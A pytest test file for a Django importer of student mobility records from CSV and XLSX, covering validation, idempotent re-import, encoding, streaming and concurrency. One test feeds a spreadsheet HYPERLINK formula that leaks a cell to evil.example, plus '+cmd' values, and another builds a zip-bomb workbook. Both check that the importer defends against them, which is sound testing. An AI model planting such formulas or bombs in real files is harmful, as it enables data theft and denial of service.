"""Importing mobilities from CSV and XLSX: every row checked, all or nothing, idempotent."""

import csv
import datetime as dt
import io
import threading
import tracemalloc
import zipfile
from collections.abc import Iterable
from typing import Any

import pytest
from django.core.management import CommandError, call_command
from django.db import connection
from openpyxl import Workbook

from accord.core.models import AuditEvent
from accord.mobility.importer import import_file, reading
from accord.mobility.importer.layout import COLUMN_NAMES, template_csv, template_xlsx
from accord.mobility.importer.run import check_file
from accord.mobility.models import ImportStatus, Mobility, MobilityImport
from tests.factories import AgreementFactory, InstitutionFactory, UnitFactory

TODAY = dt.date(2026, 11, 29)


def good_row(number: int = 1, **changes: Any) -> dict[str, Any]:
    row = {
        "external_id": f"KZ-{number:07d}",
        "person_kind": "student",
        "given_names": "Aigerim",
        "family_name": f"Nurlanova {number}",
        "email": f"student{number}@example.org",
        "birth_date": "2003-04-17",
        "nationality": "KZ",
        "esi": "",
        "home_institution": "kaznu.kz",
        "home_unit": "",
        "host_institution": "uw.edu.pl",
        "host_unit": "",
        "kind": "semester_exchange",
        "eqf_level": "6",
        "isced_code": "0613",
        "start_date": "2025-09-15",
        "end_date": "2026-02-15",
        "funding": "government",
        "programme": "Bolashak",
        "status": "completed",
        "returned_home": "yes",
        "returned_on": "2026-02-20",
        "employer": "",
    }
    row.update(changes)
    return row


def csv_bytes(rows: Iterable[dict[str, Any]], columns: Iterable[str] = COLUMN_NAMES) -> bytes:
    columns = list(columns)
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=columns, extrasaction="ignore")
    writer.writeheader()
    writer.writerows(rows)
    return buffer.getvalue().encode("utf-8")


def xlsx_bytes(rows: Iterable[dict[str, Any]], columns: Iterable[str] = COLUMN_NAMES) -> bytes:
    columns = list(columns)
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(columns)
    for row in rows:
        sheet.append([row.get(name) for name in columns])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def opener_of(data: bytes):
    return lambda: io.BytesIO(data)


@pytest.fixture
def kaznu(db):
    return InstitutionFactory(
        name="Al-Farabi Kazakh National University",
        slug="kaznu",
        country="KZ",
        schac_code="kaznu.kz",
    )


@pytest.fixture
def warsaw(db):
    return InstitutionFactory(
        name="University of Warsaw", country="PL", schac_code="uw.edu.pl", ror_id="039bjqg32"
    )


def run(data: bytes, institution, name: str = "mobilities.csv", **kwargs):
    return import_file(
        opener_of(data), name, institution=institution, actor=None, today=TODAY, **kwargs
    )


def problems(checked) -> list[tuple[Any, str]]:
    return [(error["row"], error["field"]) for error in checked.report()["errors"]]


def test_good_file_commits_every_row(kaznu, warsaw):
    checked, written = run(csv_bytes(good_row(n) for n in range(1, 4)), kaznu)

    assert checked.ok
    assert (written.created, written.updated, written.unchanged) == (3, 0, 0)
    mobility = Mobility.objects.get(external_id="KZ-0000001")
    assert mobility.home_institution == kaznu
    assert mobility.host_institution == warsaw
    assert (mobility.home_country.code, mobility.host_country.code) == ("KZ", "PL")
    assert mobility.academic_year == "2025/2026"
    assert mobility.eqf_level == 6
    assert mobility.returned_home is True
    assert mobility.returned_on == dt.date(2026, 2, 20)


def test_reimporting_the_same_file_changes_nothing(kaznu, warsaw):
    data = csv_bytes(good_row(n) for n in range(1, 4))
    run(data, kaznu)
    stamps = list(Mobility.objects.order_by("pk").values_list("pk", "updated_at"))

    _checked, written = run(data, kaznu)

    assert (written.created, written.updated, written.unchanged) == (0, 0, 3)
    assert list(Mobility.objects.order_by("pk").values_list("pk", "updated_at")) == stamps


def test_changed_row_updates_its_mobility_only(kaznu, warsaw):
    run(csv_bytes(good_row(n) for n in range(1, 4)), kaznu)
    rows = [good_row(1), good_row(2, end_date="2026-06-30"), good_row(3), good_row(4)]

    _checked, written = run(csv_bytes(rows), kaznu)

    assert (written.created, written.updated, written.unchanged) == (1, 1, 2)
    assert Mobility.objects.get(external_id="KZ-0000002").end_date == dt.date(2026, 6, 30)
    assert Mobility.objects.count() == 4


def test_reimport_updates_only_the_changed_rows_in_their_changed_columns(kaznu, warsaw):
    run(csv_bytes(good_row(n) for n in range(1, 6)), kaznu)
    before = {m.external_id: m for m in Mobility.objects.all()}
    rows = [
        good_row(1),
        good_row(2, end_date="2026-06-30", programme=""),
        good_row(3),
        good_row(4, eqf_level="", email="", status="ongoing", returned_home="", returned_on=""),
        good_row(5),
        good_row(6),
    ]

    _checked, written = run(csv_bytes(rows), kaznu)

    assert (written.created, written.updated, written.unchanged) == (1, 2, 3)
    after = {m.external_id: m for m in Mobility.objects.all()}
    second, fourth = after["KZ-0000002"], after["KZ-0000004"]
    assert (second.end_date, second.programme, second.family_name) == (
        dt.date(2026, 6, 30),
        "",
        "Nurlanova 2",
    )
    assert (fourth.eqf_level, fourth.email, fourth.status) == (None, "", "ongoing")
    assert (fourth.returned_home, fourth.returned_on) == (None, None)
    assert fourth.given_names == "Aigerim"
    for unchanged in ("KZ-0000001", "KZ-0000003", "KZ-0000005"):
        assert after[unchanged].updated_at == before[unchanged].updated_at
    assert second.updated_at > before["KZ-0000002"].updated_at
    assert after["KZ-0000006"].home_institution == kaznu
    assert after["KZ-0000006"].created_at == after["KZ-0000006"].updated_at


def test_reimport_after_a_value_was_blanked_puts_it_back(kaznu, warsaw):
    run(csv_bytes([good_row(1, eqf_level="", birth_date="")]), kaznu)

    _checked, written = run(csv_bytes([good_row(1)]), kaznu)

    assert (written.created, written.updated, written.unchanged) == (0, 1, 0)
    mobility = Mobility.objects.get()
    assert (mobility.eqf_level, mobility.birth_date) == (6, dt.date(2003, 4, 17))


def test_reimport_leaves_other_institutions_mobilities_alone(kaznu, warsaw):
    other = InstitutionFactory(schac_code="enu.kz", country="KZ")
    run(csv_bytes([good_row(1)]), kaznu)
    import_file(
        opener_of(csv_bytes([good_row(1, home_institution="enu.kz")])),
        "m.csv",
        institution=other,
        actor=None,
        today=TODAY,
    )

    _checked, written = run(csv_bytes([good_row(1, programme="Erasmus+")]), kaznu)

    assert written.updated == 1
    assert Mobility.objects.get(home_institution=other).programme == "Bolashak"


@pytest.mark.skipif(connection.vendor != "sqlite", reason="the path of SQLite before 3.33")
def test_reimport_on_sqlite_without_update_from(kaznu, warsaw, monkeypatch):
    from accord.mobility.importer import run as run_module

    monkeypatch.setattr(run_module, "SQLITE_UPDATE_FROM", False)
    run(csv_bytes(good_row(n) for n in range(1, 4)), kaznu)

    _checked, written = run(
        csv_bytes([good_row(1), good_row(2, kind="traineeship"), good_row(3), good_row(4)]),
        kaznu,
    )

    assert (written.created, written.updated, written.unchanged) == (1, 1, 2)
    assert Mobility.objects.get(external_id="KZ-0000002").kind == "traineeship"
    assert Mobility.objects.get(external_id="KZ-0000001").kind == "semester_exchange"


def _write_statements(kaznu, monkeypatch, count_queries, rows: int) -> list[str]:
    """The statements of re-importing `rows` rows, each changed, in batches of 10."""
    from accord.mobility.importer import run as run_module

    monkeypatch.setattr(run_module, "BATCH_SIZE", 10)
    Mobility.objects.filter(home_institution=kaznu).delete()
    run(csv_bytes(good_row(n) for n in range(1, rows + 1)), kaznu)
    changed = csv_bytes(good_row(n, programme="Erasmus+") for n in range(1, rows + 1))
    with count_queries() as queries:
        _checked, written = run(changed, kaznu)
    assert written.updated == rows
    return [query["sql"] for query in queries.captured_queries]


def test_statements_per_batch_of_a_reimport_do_not_grow_with_its_rows(
    kaznu, warsaw, monkeypatch, count_queries
):
    two, four, six = (
        _write_statements(kaznu, monkeypatch, count_queries, rows) for rows in (20, 40, 60)
    )

    per_batch = (len(four) - len(two)) // 2
    assert len(six) - len(four) == len(four) - len(two) == 2 * per_batch
    assert per_batch <= 5
    # Set-based: a batch's SQL is as long for 10 rows as it would be for 1,000.
    assert sum(map(len, six)) - sum(map(len, four)) == sum(map(len, four)) - sum(map(len, two))
    assert max(map(len, six)) == max(map(len, two))


def test_host_matched_by_ror_id_or_exact_name(kaznu, warsaw):
    rows = [
        good_row(1, host_institution="https://ror.org/039bjqg32"),
        good_row(2, host_institution="University of Warsaw"),
        good_row(3, host_institution="UW.EDU.PL"),
    ]
    checked, _written = run(csv_bytes(rows), kaznu)

    assert checked.ok, checked.report()
    assert set(Mobility.objects.values_list("host_institution", flat=True)) == {warsaw.pk}


def test_units_matched_by_name_within_their_institution(kaznu, warsaw):
    faculty = UnitFactory(institution=kaznu, name="Faculty of Physics")
    UnitFactory(institution=warsaw, name="Faculty of Physics")
    host_unit = UnitFactory(institution=warsaw, name="Faculty of Chemistry")
    rows = [good_row(1, home_unit="Faculty of Physics", host_unit="Faculty of Chemistry")]

    checked, _written = run(csv_bytes(rows), kaznu)

    assert checked.ok, checked.report()
    mobility = Mobility.objects.get()
    assert (mobility.home_unit, mobility.host_unit) == (faculty, host_unit)


def test_agreement_must_join_both_institutions(kaznu, warsaw):
    shared = AgreementFactory(parties=[kaznu, warsaw])
    other = AgreementFactory(parties=[kaznu, InstitutionFactory()])
    rows = [good_row(1, agreement=str(shared.pk)), good_row(2, agreement=str(other.pk))]

    checked, written = run(csv_bytes(rows), kaznu)

    assert problems(checked) == [(3, "agreement")]
    assert written is None


@pytest.mark.parametrize(
    ("changes", "field"),
    [
        ({"end_date": "2025-09-01"}, "end_date"),
        ({"host_institution": "kaznu.kz"}, "host_institution"),
        ({"host_institution": "nowhere.example"}, "host_institution"),
        ({"isced_code": "9999"}, "isced_code"),
        ({"eqf_level": "9"}, "eqf_level"),
        ({"eqf_level": "six"}, "eqf_level"),
        ({"birth_date": "2030-01-01"}, "birth_date"),
        ({"start_date": "15/09/2025"}, "start_date"),
        ({"kind": "holiday"}, "kind"),
        ({"funding": "lottery"}, "funding"),
        ({"status": "done"}, "status"),
        ({"nationality": "XX"}, "nationality"),
        ({"email": "not-an-address"}, "email"),
        ({"given_names": ""}, "given_names"),
        ({"home_unit": "No such faculty"}, "home_unit"),
        ({"home_institution": "uw.edu.pl"}, "home_institution"),
        ({"returned_home": "maybe"}, "returned_home"),
        ({"funding": "agreement"}, "agreement"),
    ],
)
def test_bad_row_is_reported_by_row_and_field(kaznu, warsaw, changes, field):
    rows = [good_row(1), good_row(2, **changes), good_row(3)]

    checked, written = run(csv_bytes(rows), kaznu)

    assert written is None
    assert problems(checked) == [(3, field)]
    assert Mobility.objects.count() == 0


def test_file_with_one_bad_row_commits_nothing(kaznu, warsaw):
    rows = [good_row(n) for n in range(1, 100)]
    rows[41]["end_date"] = "2025-01-01"

    checked, written = run(csv_bytes(rows), kaznu)

    assert written is None
    assert checked.report() == {
        "errors": [
            {"row": 43, "field": "end_date", "message": "The end cannot be before the start."}
        ],
        "error_count": 1,
    }
    assert Mobility.objects.count() == 0


def test_every_problem_of_every_row_is_listed(kaznu, warsaw):
    rows = [
        good_row(1, end_date="2020-01-01", eqf_level="11"),
        good_row(2),
        good_row(3, host_institution="nowhere.example", isced_code="12345"),
    ]
    checked, _written = run(csv_bytes(rows), kaznu)

    assert problems(checked) == [
        (2, "end_date"),
        (2, "eqf_level"),
        (4, "host_institution"),
        (4, "isced_code"),
    ]


def test_duplicate_external_ids_in_one_file_are_bad_rows(kaznu, warsaw):
    rows = [good_row(1), good_row(2), good_row(1, family_name="Other"), good_row(1)]

    checked, written = run(csv_bytes(rows), kaznu)

    assert written is None
    assert problems(checked) == [(4, "external_id"), (5, "external_id")]
    assert "also on row 2" in checked.report()["errors"][0]["message"]


def test_csv_in_another_encoding_is_refused_with_advice(kaznu, warsaw):
    data = csv_bytes([good_row(1, family_name="Müller")]).decode().encode("latin-1")

    checked, written = run(data, kaznu)

    assert written is None
    [error] = checked.report()["errors"]
    assert error["row"] is None
    assert "not UTF-8" in error["message"]
    assert "CSV UTF-8" in error["message"]


def test_legacy_bytes_deep_in_a_csv_are_found_before_anything_is_written(kaznu, warsaw):
    rows = [good_row(n) for n in range(1, 3000)]
    rows[2500]["family_name"] = "Müller"
    data = csv_bytes(rows).decode().encode("latin-1")

    checked, written = run(data, kaznu)

    assert written is None
    [error] = checked.report()["errors"]
    assert "not UTF-8" in error["message"]
    assert Mobility.objects.count() == 0


def test_missing_columns_are_named(kaznu, warsaw):
    columns = [name for name in COLUMN_NAMES if name not in ("start_date", "funding")]

    checked, written = run(csv_bytes([good_row(1)], columns), kaznu)

    assert written is None
    [error] = checked.report()["errors"]
    assert error["field"] == "columns"
    assert "Required columns are missing: start_date, funding." in error["message"]


def test_optional_columns_may_be_left_out(kaznu, warsaw):
    columns = [
        "External ID",
        "given_names",
        "family_name",
        "host_institution",
        "kind",
        "start_date",
        "end_date",
        "funding",
    ]
    data = csv_bytes(
        [
            {
                "External ID": "A-1",
                **{k: v for k, v in good_row(1).items() if k in columns},
            }
        ],
        columns,
    )

    checked, _written = run(data, kaznu)

    assert checked.ok, checked.report()
    mobility = Mobility.objects.get()
    assert (mobility.external_id, mobility.status, mobility.person_kind) == (
        "A-1",
        "planned",
        "student",
    )


def test_semicolon_separated_csv_with_byte_order_mark_is_read(kaznu, warsaw):
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=COLUMN_NAMES, delimiter=";")
    writer.writeheader()
    writer.writerow(good_row(1))
    data = ("\ufeff" + buffer.getvalue()).encode("utf-8")

    checked, written = run(data, kaznu)

    assert checked.ok, checked.report()
    assert written.created == 1


def test_xlsx_file_is_imported(kaznu, warsaw):
    rows = [good_row(1), good_row(2, eqf_level=7, start_date=dt.datetime(2025, 10, 1))]

    checked, written = run(xlsx_bytes(rows), kaznu, name="mobilities.xlsx")

    assert checked.ok, checked.report()
    assert written.created == 2
    second = Mobility.objects.get(external_id="KZ-0000002")
    assert (second.eqf_level, second.start_date) == (7, dt.date(2025, 10, 1))


def test_bad_row_in_xlsx_is_reported_by_its_sheet_row(kaznu, warsaw):
    rows = [good_row(1), good_row(2), good_row(3, isced_code="0000x")]

    checked, _written = run(xlsx_bytes(rows), kaznu, name="mobilities.xlsx")

    assert problems(checked) == [(4, "isced_code")]


def test_xlsx_that_is_not_one_is_refused(kaznu, warsaw):
    checked, written = run(b"external_id,given_names\n1,2\n", kaznu, name="mobilities.xlsx")

    [error] = checked.report()["errors"]
    assert "not an Excel workbook" in error["message"]
    assert written is None


def test_damaged_xlsx_is_refused(kaznu, warsaw):
    data = xlsx_bytes([good_row(1)])[:2000]

    checked, _written = run(data, kaznu, name="mobilities.xlsx")

    [error] = checked.report()["errors"]
    assert "not a readable Excel workbook" in error["message"]


def test_formulas_in_cells_are_stored_as_text(kaznu, warsaw):
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    rows = [
        good_row(1, given_names=formula, employer="@SUM(1+1)"),
        good_row(2, family_name="-2+3", programme="+cmd"),
    ]
    for data, name in ((csv_bytes(rows), "m.csv"), (xlsx_bytes(rows), "m.xlsx")):
        Mobility.objects.all().delete()
        checked, _written = run(data, kaznu, name=name)

        assert checked.ok, checked.report()
        first = Mobility.objects.get(external_id="KZ-0000001")
        second = Mobility.objects.get(external_id="KZ-0000002")
        assert (first.given_names, first.employer) == (formula, "@SUM(1+1)")
        assert (second.family_name, second.programme) == ("-2+3", "+cmd")


def test_report_keeps_a_thousand_problems_and_counts_all(kaznu, warsaw):
    rows = [good_row(n, kind="holiday") for n in range(1, 1501)]

    checked, _written = run(csv_bytes(rows), kaznu)

    report = checked.report()
    assert report["error_count"] == 1500
    assert len(report["errors"]) == 1000


def test_large_file_streams_and_commits(kaznu, warsaw):
    rows = (good_row(n) for n in range(1, 20_001))
    progress: list[int] = []

    checked, written = run(csv_bytes(rows), kaznu, on_check=progress.append)

    assert checked.rows == 20_000
    assert written.created == 20_000
    assert Mobility.objects.filter(home_institution=kaznu).count() == 20_000
    assert progress[:3] == [1000, 2000, 3000]
    assert progress[-1] == 20_000


def test_templates_import_as_they_are(kaznu, warsaw):
    checked, written = run(template_csv(), kaznu, name="template.csv")
    assert checked.ok, checked.report()
    checked, written = run(template_xlsx(), kaznu, name="template.xlsx")
    assert checked.ok, checked.report()
    assert (written.created, written.unchanged) == (0, 1)


def test_command_imports_a_file_with_one_audit_event(kaznu, warsaw, tmp_path):
    path = tmp_path / "mobilities.csv"
    path.write_bytes(csv_bytes(good_row(n) for n in range(1, 6)))
    out = io.StringIO()

    call_command("import", "mobility", str(path), "--institution", "kaznu", stdout=out)

    assert "5 rows: 5 added, 0 updated, 0 unchanged" in out.getvalue()
    assert Mobility.objects.count() == 5
    mobility_import = MobilityImport.objects.get()
    assert mobility_import.status == ImportStatus.SUCCEEDED
    assert mobility_import.created_count == 5
    assert AuditEvent.objects.filter(action="mobility.import").count() == 1


def test_command_reports_bad_rows_and_imports_nothing(kaznu, warsaw, tmp_path):
    path = tmp_path / "mobilities.csv"
    path.write_bytes(csv_bytes([good_row(1), good_row(2, end_date="2020-01-01")]))
    out = io.StringIO()

    with pytest.raises(CommandError, match="1 problems in 2 rows"):
        call_command("import", "mobility", str(path), "--institution", "kaznu", stdout=out)

    assert "row 3, end_date: The end cannot be before the start." in out.getvalue()
    assert Mobility.objects.count() == 0
    assert not AuditEvent.objects.filter(action="mobility.import").exists()


def test_command_dry_run_changes_nothing(kaznu, warsaw, tmp_path):
    path = tmp_path / "mobilities.csv"
    path.write_bytes(csv_bytes([good_row(1)]))
    out = io.StringIO()

    call_command("import", "mobility", str(path), "--institution", "kaznu", "--dry-run", stdout=out)

    assert "Dry run" in out.getvalue()
    assert Mobility.objects.count() == 0
    assert MobilityImport.objects.count() == 0


def test_command_draws_a_progress_bar(kaznu, warsaw, tmp_path):
    path = tmp_path / "mobilities.csv"
    path.write_bytes(csv_bytes(good_row(n) for n in range(1, 2001)))
    err = io.StringIO()

    call_command(
        "import",
        "mobility",
        str(path),
        "--institution",
        "kaznu",
        "--progress",
        stdout=io.StringIO(),
        stderr=err,
    )

    assert "Checking  [" in err.getvalue()
    assert "2000/2000" in err.getvalue()
    assert "Writing  [" in err.getvalue()


def test_command_needs_a_known_institution(kaznu, tmp_path):
    path = tmp_path / "mobilities.csv"
    path.write_bytes(csv_bytes([good_row(1)]))

    with pytest.raises(CommandError, match="No institution has the slug nowhere"):
        call_command("import", "mobility", str(path), "--institution", "nowhere")


def test_template_in_the_docs_is_the_one_served():
    from django.conf import settings

    shipped = settings.BASE_DIR / "docs" / "mobility-import-template.csv"
    assert shipped.read_bytes() == template_csv()


def test_checking_memory_does_not_grow_with_the_file(kaznu, warsaw):
    def peak_while_checking(rows: int) -> int:
        data = csv_bytes(good_row(n) for n in range(1, rows + 1))
        tracemalloc.start()
        try:
            tracemalloc.reset_peak()
            before = tracemalloc.get_traced_memory()[0]
            checked = check_file(opener_of(data), "csv", institution=kaznu, today=TODAY)
            peak = tracemalloc.get_traced_memory()[1] - before
        finally:
            tracemalloc.stop()
        assert checked.ok
        return peak

    small, large = peak_while_checking(2_500), peak_while_checking(12_500)

    # Five times the rows, not five times the memory (the file itself is held by the test).
    assert large < small * 1.5


@pytest.mark.postgres_only
@pytest.mark.django_db(transaction=True)
def test_two_imports_of_the_same_new_rows_at_once_add_each_row_once(kaznu, warsaw):
    if connection.vendor != "postgresql":
        pytest.skip("needs PostgreSQL: concurrent writers")
    data = csv_bytes(good_row(n) for n in range(1, 301))
    barrier = threading.Barrier(2)
    outcomes: list = []

    def run_one() -> None:
        try:
            barrier.wait()
            outcomes.append(run(data, kaznu))
        finally:
            connection.close()

    threads = [threading.Thread(target=run_one) for _ in range(2)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()

    written = sorted((w.created, w.unchanged) for _checked, w in outcomes)
    assert written == [(0, 300), (300, 0)]
    assert Mobility.objects.filter(home_institution=kaznu).count() == 300


def test_rows_of_a_workbook_that_declares_no_size_are_counted():
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("mobilities")
    sheet.append(list(COLUMN_NAMES))
    for number in range(1, 1201):
        sheet.append([good_row(number).get(name, "") for name in COLUMN_NAMES])
    buffer = io.BytesIO()
    workbook.save(buffer)

    assert reading.count_rows(opener_of(buffer.getvalue()), "xlsx") == 1200


def test_a_million_row_file_is_checked_as_a_stream(kaznu, warsaw, tmp_path):
    # The file is written and read a row at a time; the write pass is the benchmark's
    # (bench/mobility_import.py), this proves the check goes through a file of that size.
    path = tmp_path / "million.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(COLUMN_NAMES), extrasaction="ignore")
        writer.writeheader()
        template = good_row(0)
        for number in range(1, 1_000_001):
            template["external_id"] = f"KZ-{number:07d}"
            template["family_name"] = f"Nurlanova {number}"
            template["email"] = f"student{number}@example.org"
            writer.writerow(template)
    progress: list[int] = []

    checked = check_file(
        lambda: path.open("rb"),
        "csv",
        institution=kaznu,
        today=TODAY,
        on_progress=progress.append,
    )

    assert checked.ok, checked.report()
    assert checked.rows == 1_000_000
    assert progress[-1] == 1_000_000


def test_xlsx_that_is_a_zip_bomb_is_refused_naming_the_limit(kaznu, warsaw):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        with archive.open("xl/sharedStrings.xml", "w") as part:
            for _ in range(64):
                part.write(bytes(1024 * 1024))
    stored = zipfile.ZipFile(buffer).getinfo("xl/sharedStrings.xml").compress_size

    checked, written = run(buffer.getvalue(), kaznu, name="mobilities.xlsx")

    [error] = checked.report()["errors"]
    assert error["message"] == (
        f"The file's part xl/sharedStrings.xml is compressed {64 * 1024 * 1024 / stored:,.0f} "
        "times; the limit is 200 times, which no real document needs."
    )
    assert (written, Mobility.objects.count()) == (None, 0)


def test_the_write_takes_the_rows_the_check_kept_instead_of_reading_the_file_again(kaznu, warsaw):
    data = csv_bytes(good_row(n) for n in range(1, 2_501))
    opened: list[str] = []

    def opener():
        opened.append("open")
        return io.BytesIO(data)

    checked, written = import_file(
        opener, "mobilities.csv", institution=kaznu, actor=None, today=TODAY
    )
    times_to_sniff_count_and_check = 3

    assert checked.ok, checked.report()
    assert written is not None and written.created == 2_500
    assert len(opened) == times_to_sniff_count_and_check
    assert Mobility.objects.filter(home_institution=kaznu).count() == 2_500
    assert Mobility.objects.get(external_id="KZ-0002500").family_name == "Nurlanova 2500"


def test_a_unit_renamed_between_check_and_write_fails_the_import_instead_of_writing_rows(
    kaznu, warsaw
):
    faculty = UnitFactory(institution=kaznu, name="Faculty of Physics")
    data = csv_bytes(good_row(n, home_unit="Faculty of Physics") for n in range(1, 4))

    def rename_the_unit() -> None:
        faculty.name = "Faculty of Physics and Technology"
        faculty.save()

    checked, written = run(data, kaznu, on_begin=rename_the_unit)

    assert written is None
    assert checked.report()["errors"][-1]["message"] == (
        "The file changed after it was checked; import it again."
    )
    assert not Mobility.objects.filter(home_institution=kaznu).exists()


def test_a_failed_check_leaves_no_kept_rows_behind(kaznu, warsaw, settings, tmp_path):
    from accord.mobility.importer import stale

    settings.VAR_DIR = tmp_path
    folder = stale.scratch_dir(1)
    rows = [good_row(n) for n in range(1, 1_500)] + [good_row(1_500, start_date="soon")]

    checked = check_file(
        opener_of(csv_bytes(rows)),
        "csv",
        institution=kaznu,
        today=TODAY,
        scratch=folder,
        keep_rows=True,
    )

    assert problems(checked) == [(1_501, "start_date")]  # the header is row 1
    assert checked.staged is None
    assert list(folder.iterdir()) == []
